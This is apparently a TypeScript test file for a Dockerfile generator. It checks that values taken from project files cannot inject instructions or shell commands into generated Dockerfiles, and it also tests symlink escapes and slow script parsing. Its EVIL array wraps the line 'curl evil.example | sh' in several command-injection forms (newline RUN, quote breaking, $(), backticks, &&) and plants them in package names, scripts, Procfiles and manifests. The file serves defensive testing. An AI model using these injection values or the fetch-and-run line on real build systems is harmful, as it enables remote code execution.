import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import {
  type Detection,
  detect,
  fitPack,
  packSource,
  scanProject,
  versionsOf,
} from '../../../generators/docker/index.ts';
import { createQuery } from '../../../generators/graph/index.ts';
import { CribsmithError } from '../../../generators/report/index.ts';
import { call } from '../../helpers/call.ts';
import { folderWith } from '../../helpers/folder.ts';
import { graph, instructions } from '../helpers.ts';

const source = packSource(createQuery(graph));

/** Files of a project as a detector sees them, without a disk. */
function folderOf(files: Readonly<Record<string, string>>) {
  return { path: '', files: Object.keys(files).sort(), text: (file: string) => files[file] };
}

/** The pack of a project, or the error that refuses it. */
function packOf(
  files: Readonly<Record<string, string>>,
): { dockerfile: string; detection?: Detection } | CribsmithError {
  const folder = folderOf(files);
  try {
    const [detection] = detect([folder], (language) => versionsOf(source, language));
    if (!detection) return { dockerfile: '' };
    const { pack } = fitPack(source, detection, folder, { plain: true });
    return { dockerfile: pack.files.find(({ path }) => path === 'Dockerfile')?.text ?? '', detection };
  } catch (error) {
    if (error instanceof CribsmithError) return error;
    throw error;
  }
}

const INSTRUCTION = /^(?:FROM|ARG|RUN|COPY|ENV|WORKDIR|USER|EXPOSE|HEALTHCHECK|ENTRYPOINT|CMD)\b/;
const MARK = 'curl evil.example | sh';
const EVIL = [
  `x\nRUN ${MARK}`,
  `x"; ${MARK}; "`,
  `$(${MARK})`,
  `\`${MARK}\``,
  `x && ${MARK}`,
  `x'\n${MARK}`,
  `$${'{{ secrets }}'}`,
  `{port} ${MARK}`,
];

const PLACES: Readonly<Record<string, (evil: string) => Record<string, string>>> = {
  'the name of a package': (evil) => ({ 'package.json': JSON.stringify({ name: evil, main: 'a.js' }), 'a.js': '' }),
  'a start script': (evil) => ({ 'package.json': JSON.stringify({ scripts: { start: `node ${evil}` } }) }),
  'a build script': (evil) => ({ 'package.json': JSON.stringify({ scripts: { build: evil, start: 'node a.js' } }) }),
  'the package manager': (evil) => ({
    'package.json': JSON.stringify({ packageManager: `pnpm@${evil}`, main: 'a.js' }),
    'a.js': '',
  }),
  'a version': (evil) => ({ 'package.json': '{"main":"a.js"}', 'a.js': '', '.nvmrc': `20${evil}` }),
  'the path of Yarn': (evil) => ({
    'package.json': '{"main":"a.js"}',
    'a.js': '',
    'yarn.lock': '__metadata:\n',
    '.yarnrc.yml': `yarnPath: ${evil}\n`,
  }),
  'a Procfile': (evil) => ({ 'requirements.txt': 'flask\n', Procfile: `web: gunicorn ${evil}\n` }),
  'a Python project': (evil) => ({
    'pyproject.toml': `[project]\nname = ${JSON.stringify(evil)}\n`,
    'uv.lock': '',
    'main.py': 'app = FastAPI()\n',
  }),
  'a crate': (evil) => ({ 'Cargo.toml': `[package]\nname = ${JSON.stringify(evil)}\n`, 'src/main.rs': '' }),
  'a Dockerfile that is there': (evil) => ({
    'go.mod': 'module a\n',
    'main.go': 'package main\n',
    Dockerfile: `FROM golang AS b\nENV A=${evil}\nRUN apt-get install ${evil}\nFROM scratch\nENV B ${evil}\n`,
  }),
  'an assembly': (evil) => ({
    'a.csproj': `<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><AssemblyName>${evil.replaceAll(/[<&]/g, '')}</AssemblyName></PropertyGroup></Project>`,
  }),
  'a release': (evil) => ({ 'mix.exs': `def project, do: [app: :chat, releases: [${evil}: []]]` }),
  'an output folder': (evil) => ({
    'package.json': '{"scripts":{"build":"vite build"},"devDependencies":{"vite":"8"}}',
    'vite.config.js': `build: { outDir: "${evil}" }`,
  }),
  'a route': (evil) => ({ 'go.mod': 'module a\n', 'main.go': `package main\nhttp.HandleFunc("/health${evil}", f)\n` }),
};

test.each(Object.keys(PLACES))('%s brings no instruction and no command of its own into a Dockerfile', (place) => {
  for (const evil of EVIL) {
    const pack = packOf(PLACES[place]?.(evil) ?? {});
    if (pack instanceof CribsmithError) continue;
    for (const line of instructions(pack.dockerfile)) expect(line).toMatch(INSTRUCTION);
    // In exec form a word is only a word; in a command it is what a shell makes of it.
    const commands = instructions(pack.dockerfile).filter((line) => !/^(?:CMD|ENTRYPOINT) \[/.test(line));
    for (const line of commands) expect(line).not.toContain(MARK);
  }
});

test('any name of a file or folder is held to what a Dockerfile can hold, or refused', () => {
  fc.assert(
    fc.property(fc.stringMatching(/^[^/\0]{1,30}$/), (name) => {
      const pack = packOf({
        'go.mod': 'module a\n',
        'main.go': `package main\nvar x = "${name}/x"\n`,
        [`${name}/x`]: '',
      });
      if (pack instanceof CribsmithError) return;
      for (const line of instructions(pack.dockerfile)) expect(line).toMatch(INSTRUCTION);
    }),
    { numRuns: 40 },
  );
});

test.each<[string, string]>([
  ['200 flags', `node ${'--flag '.repeat(200)}server.js`],
  ['200 flags and no file', `node ${'--flag '.repeat(200)}!`],
  ['scripts that call each other', 'npm run start && npm run start && npm run start'],
  ['many steps', 'npm run a && '.repeat(150)],
])('a start script of %s is read in milliseconds', (_name, start) => {
  const scripts = { start, a: 'npm run b && npm run b', b: 'npm run a && npm run a' };
  const files = { 'package.json': JSON.stringify({ main: 'server.js', scripts }), 'server.js': '' };
  const folder = folderOf(files);
  const before = performance.now();
  detect([folder], () => undefined);
  expect(performance.now() - before).toBeLessThan(200);
});

test('nothing is written through a link that leads out of the project', async () => {
  const outside = folderWith({});
  const project = folderWith({
    'go.mod': 'module app\n',
    'main.go': 'package main\n',
    'compose.yml': 'services:\n  db: { image: postgres:18 }\n',
  });
  mkdirSync(join(outside, 'kept'));
  symlinkSync(join(outside, 'kept'), join(project, '.github'));
  symlinkSync(join(outside, 'Dockerfile'), join(project, 'Dockerfile'));
  const { code, stderr } = await call('docker', '--detect', project, '--force');
  expect(code).toBe(2);
  expect(stderr).toContain('is a link');
  expect(readdirSync(join(outside, 'kept'))).toEqual([]);
  expect(existsSync(join(outside, 'Dockerfile'))).toBe(false);
  expect(readFileSync(join(project, 'compose.yml'), 'utf8')).not.toContain('app');
});

test('a project of many folders is scanned once', () => {
  const folder = folderWith({
    'package.json': '{"workspaces":["packages/*"]}',
    'packages/a/package.json': '{"name":"a","main":"a.js"}',
  });
  expect(detect(scanProject(folder), () => undefined).map(({ folder: path }) => path)).toEqual(['packages/a']);
});
